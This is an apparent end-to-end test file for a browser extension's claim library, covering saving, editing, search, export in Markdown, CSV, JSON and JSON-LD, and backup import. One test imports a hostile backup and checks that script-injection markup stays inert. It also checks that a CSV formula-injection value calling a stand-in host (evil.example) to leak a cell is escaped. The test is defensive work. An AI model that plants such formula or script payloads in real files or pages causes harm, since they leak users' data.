// The claim library through the real popup and options pages of the built extension in Chromium: save a claim
// by message, see it listed, edit its note, search, export every format, import the backup into a fresh
// profile, and refuse a malformed backup without losing anything.
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Claim } from '../../utils/claims/types';
import { chromiumPath, type ExtensionSession, launchExtension, sendFromPage } from './harness';
import { Overlay } from './overlay';
import { readSavedClaims } from './saved-claims';

const PAGE_URL = 'https://www.zerohedge.com/geopolitical/fiercest-syrian-fighting-yet';

function claim(n: number, text: string, outlet: string | null): Claim {
  return {
    id: `browser-${n}`,
    text,
    kind: outlet ? 'reported' : 'commentary',
    quoteId: outlet ? 'q1' : null,
    publication: 'Zero Hedge',
    outlet,
    speaker: outlet
      ? { name: 'the Syrian Observatory for Human Rights', mention: 'the monitor', how: 'named' }
      : null,
    score: 0.6,
    reasons: ['+0.15 number'],
    selector: {
      quote: { type: 'TextQuoteSelector', exact: text, prefix: '', suffix: '' },
      position: { type: 'TextPositionSelector', start: n * 100, end: n * 100 + text.length },
    },
  };
}

const CLAIMS = [
  claim(1, 'At least 40 fighters were killed near Hama on Tuesday.', 'Reuters'),
  claim(2, 'Damascus airport was closed for six hours after the strike.', 'BBC'),
  claim(3, 'The "ceasefire" was never more than words, with 3 breaches a day.', null),
];

async function download(page: Page, buttonName: string): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: buttonName }).click(),
  ]);
  const path = await file.path();
  return { name: file.suggestedFilename(), text: await readFile(path, 'utf8') };
}

const rows = (page: Page) => page.locator('[role="option"]');

describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
  let session: ExtensionSession;
  let fresh: ExtensionSession | null = null;
  let backup = '';

  beforeAll(async () => {
    session = await launchExtension();
  });

  afterAll(async () => {
    await session?.close();
    await fresh?.close();
  });

  it('saves claims sent as messages and lists them in the popup', async () => {
    const popup = await session.openPopup();
    await popup.locator('main').waitFor();
    for (const c of CLAIMS) {
      const record = await sendFromPage<{ id: string; savedAt: number }>(popup, 'claim/save', {
        claim: c,
        pageUrl: `${PAGE_URL}?utm_source=twitter#comments`,
        pageTitle: 'Fiercest Syrian Fighting Yet',
      });
      expect(record.id).toBe(c.id);
      expect(record.savedAt).toBeGreaterThan(0);
    }
    // Saving again is idempotent.
    await sendFromPage(popup, 'claim/save', {
      claim: CLAIMS[0],
      pageUrl: PAGE_URL,
      pageTitle: 'Fiercest Syrian Fighting Yet',
    });
    const bad = await sendFromPage<{ error: string }>(popup, 'claim/save', {
      claim: { ...CLAIMS[0], score: 'high' },
      pageUrl: PAGE_URL,
      pageTitle: null,
    });
    expect(bad.error).toBe('claim/save: payload.claim.score: expected a number between 0 and 1, got "high"');

    await popup.reload();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await expect.poll(() => rows(popup).count()).toBe(3);
    expect(await popup.locator('[role="listbox"]').textContent()).toContain('Damascus airport was closed');
    session.assertNoErrors();
  });

  it('opens the page of a claim for "show in page" and reveals the claim there, or marks it orphaned', async () => {
    const popup = await session.openPopup();
    const pageUrl = `${session.baseUrl}/seed/seed-original.html`;
    const onThePage =
      "The main battlefront is currently close to the key highway that links the capital Damascus with other major cities, including Aleppo, and President Bashar al-Assad's forces are believed to be seeking to cut off rebels in Idlib.";
    const orphans = async () =>
      (await popup.evaluate(readSavedClaims)).filter((c) => c.orphanedAt !== null).map((c) => c.id);
    for (const [n, text] of [
      [9, onThePage],
      [10, 'A sentence that this page never had in it.'],
    ] as const) {
      await sendFromPage(popup, 'claim/save', { claim: claim(n, text, 'BBC'), pageUrl, pageTitle: 'Seed' });
      const [opened, answer] = await Promise.all([
        session.context.waitForEvent('page', {
          predicate: (p) => p.url().startsWith(pageUrl),
          timeout: 15_000,
        }),
        sendFromPage<{ ok?: boolean; error?: string }>(popup, 'claim/show-in-page', { id: `browser-${n}` }),
      ]);
      expect(answer).toEqual({ ok: true });
      expect(opened.url()).toBe(pageUrl);
      if (n === 9) {
        // The claim arrives with the page's analysis, and its card opens (the flash over its text is drawn in
        // the closed overlay, out of the page's sight).
        const overlay = await Overlay.of(opened);
        await overlay.waitFor('.line.reveal');
        expect(
          await opened.evaluate(() => [...CSS.highlights.keys()].some((n) => /reveal|saved|active/.test(n))),
        ).toBe(false);
        await overlay.detach();
        expect(await orphans()).not.toContain('browser-9');
      } else {
        await expect.poll(orphans, { timeout: 15_000 }).toContain('browser-10');
        expect(await opened.evaluate(() => [...CSS.highlights.keys()].some((n) => /reveal/.test(n)))).toBe(
          false,
        );
      }
      await opened.close();
      expect(
        (await sendFromPage<{ deleted: { id: string } }>(popup, 'claim/delete', { id: `browser-${n}` }))
          .deleted.id,
      ).toBe(`browser-${n}`);
    }
    session.assertNoErrors();
  });

  it('edits a note, and the change is stored', async () => {
    const popup = await session.openPopup();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await rows(popup).filter({ hasText: 'Damascus airport' }).click();
    await popup.getByLabel('Note').fill('Check against the airport authority');
    await popup.getByLabel('Tags (separated by commas)').fill('syria, aviation');
    await popup.getByRole('button', { name: 'Save changes' }).click();
    await expect
      .poll(async () => {
        const claims = (await popup.evaluate(readSavedClaims)).filter((c) => c.text.includes('airport'));
        return claims.map((c) => [c.id, c.note, c.tags.join(',')]);
      })
      .toEqual([['browser-2', 'Check against the airport authority', 'syria,aviation']]);
    await popup.getByRole('button', { name: 'Back to list' }).click();
    expect(await rows(popup).filter({ hasText: 'Damascus' }).textContent()).toContain('#syria #aviation');
    session.assertNoErrors();
  });

  it('searches as the reader types', async () => {
    const popup = await session.openPopup();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await popup.getByLabel('Search saved claims').fill('hama fighters');
    await expect.poll(() => rows(popup).count()).toBe(1);
    expect(await rows(popup).first().textContent()).toContain('near Hama');
    await popup.getByLabel('Search saved claims').fill('authority');
    await expect.poll(() => rows(popup).count()).toBe(1);
    await popup.getByLabel('Search saved claims').fill('');
    await expect.poll(() => rows(popup).count()).toBe(3);
  });

  it('exports every format with the saved contents', async () => {
    const popup = await session.openPopup();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await rows(popup).first().waitFor();

    const md = await download(popup, 'Markdown');
    expect(md.name).toMatch(/^sourcelight-claims-\d{4}-\d{2}-\d{2}\.md$/);
    expect(md.text).toContain('## Fiercest Syrian Fighting Yet');
    expect(md.text).toContain('> Damascus airport was closed for six hours after the strike.');
    expect(md.text).toContain('Zero Hedge ← BBC ← the Syrian Observatory for Human Rights');
    expect(md.text).toContain('Note: Check against the airport authority');
    expect(md.text).toContain(`(<${PAGE_URL}>)`);

    const csv = await download(popup, 'CSV');
    expect(csv.name).toMatch(/\.csv$/);
    const lines = csv.text.split('\r\n');
    // The file opens with a UTF-8 byte-order mark, so spreadsheets read it as UTF-8.
    expect(lines[0]).toBe(
      '\uFEFFid,saved_at,page_url,page_title,publication,outlet,speaker,kind,score,text,note,tags,updated_at,orphaned_at',
    );
    expect(lines).toHaveLength(5);
    expect(csv.text).toContain('"The ""ceasefire"" was never more than words, with 3 breaches a day."');

    const json = await download(popup, 'JSON backup');
    expect(json.name).toMatch(/^sourcelight-backup-\d{4}-\d{2}-\d{2}\.jsonl$/);
    const [header, ...records] = json.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(header).toMatchObject({ format: 'sourcelight-backup', version: 2, claims: 3 });
    const claims = records.filter((r) => r.claim).map((r) => r.claim);
    expect(claims.map((c: { id: string }) => c.id).sort()).toEqual(['browser-1', 'browser-2', 'browser-3']);
    expect(claims.every((c: { pageUrl: string }) => c.pageUrl === PAGE_URL)).toBe(true);
    backup = json.text;

    const anno = await download(popup, 'Web Annotations (JSON-LD)');
    const collection = JSON.parse(anno.text);
    expect(collection['@context']).toBe('http://www.w3.org/ns/anno.jsonld');
    expect(collection.total).toBe(3);
    const commented = collection.first.items.find(
      (a: { motivation: string }) => a.motivation === 'commenting',
    );
    expect(commented.body[0].value).toBe('Check against the airport authority');
    expect(commented.target.selector.map((s: { type: string }) => s.type)).toEqual([
      'TextQuoteSelector',
      'TextPositionSelector',
    ]);
    session.assertNoErrors();
  });

  it('imports the backup into a fresh profile and finds everything', async () => {
    expect(backup).not.toBe('');
    fresh = await launchExtension();
    const options = await fresh.openExtensionPage('options.html');
    await options.getByLabel('Import a backup').setInputFiles({
      name: 'backup.jsonl',
      mimeType: 'application/jsonl',
      buffer: Buffer.from(backup),
    });
    await expect.poll(() => options.locator('.sl-import-result').textContent()).toContain('3 new claims');

    const popup = await fresh.openPopup();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await expect.poll(() => rows(popup).count()).toBe(3);
    await popup.getByLabel('Search saved claims').fill('authority');
    await expect.poll(() => rows(popup).count()).toBe(1);
    fresh.assertNoErrors();
  });

  it('shows a hostile backup in the real popup only as text', async () => {
    const hostile = await readFile(
      new URL('../fixtures/hostile/hostile-backup.json', import.meta.url),
      'utf8',
    );
    const options = await fresh!.openExtensionPage('options.html');
    await options.getByLabel('Import a backup').setInputFiles({
      name: 'hostile.json',
      mimeType: 'application/json',
      buffer: Buffer.from(hostile),
    });
    await expect.poll(() => options.locator('.sl-import-result').textContent()).toContain('6 new claims');
    await options.close();
    const popup = await fresh!.openPopup();
    await popup.getByRole('tab', { name: 'Library' }).click();
    await expect.poll(() => rows(popup).count()).toBe(9);
    await rows(popup).filter({ hasText: 'onerror' }).click();
    const found = await popup.evaluate(() => ({
      markup: document.querySelectorAll('main img, main script, main svg, main b, main i').length,
      badLinks: [...document.querySelectorAll('a')].filter((a) => !/^https?:/.test(a.href)).length,
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    }));
    expect(found).toEqual({ markup: 0, badLinks: 0, pwned: null });
    await popup.getByRole('button', { name: 'Back to list' }).click();
    const csv = await download(popup, 'CSV');
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
    // The hostile claims go again, so the next test sees the three it imported.
    for (let n = 1; n <= 6; n += 1) await sendFromPage(popup, 'claim/delete', { id: `hostile-${n}` });
    fresh!.assertNoErrors();
  });

  it('refuses a malformed backup and loses nothing', async () => {
    const options = await fresh!.openExtensionPage('options.html');
    const lines = backup.trimEnd().split('\n');
    const claimAt = lines.findIndex((line) => line.startsWith('{"claim"'));
    const broken = lines.map((line, i) =>
      i === claimAt + 1 ? line.replace(/"score":[0-9.]+/, '"score":"high"') : line,
    );
    const first = JSON.parse(lines[claimAt]);
    broken.push(JSON.stringify({ claim: { ...first.claim, note: 'would replace' } }));
    await options.getByLabel('Import a backup').setInputFiles({
      name: 'broken.jsonl',
      mimeType: 'application/jsonl',
      buffer: Buffer.from(broken.join('\n').replace('"claims":3', '"claims":4')),
    });
    const alert = options.locator('.sl-import-errors');
    await alert.waitFor();
    const text = await alert.textContent();
    expect(text).toContain(
      `line ${claimAt + 2}: claims[1].score: expected a number between 0 and 1, got "high"`,
    );
    expect(text).toContain('claims[3].id: the same id as claims[0]');

    await options.getByLabel('Import a backup').setInputFiles({
      name: 'notes.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('these are not the claims you are looking for'),
    });
    await expect.poll(() => alert.textContent()).toContain('This file is not JSON');

    const popup = await fresh!.openPopup();
    const claims = await popup.evaluate(readSavedClaims);
    expect(claims.map((c) => c.id).sort()).toEqual(['browser-1', 'browser-2', 'browser-3']);
    expect(claims.find((c) => c.id === 'browser-2')?.note).toBe('Check against the airport authority');
    fresh!.assertNoErrors();
  });
});
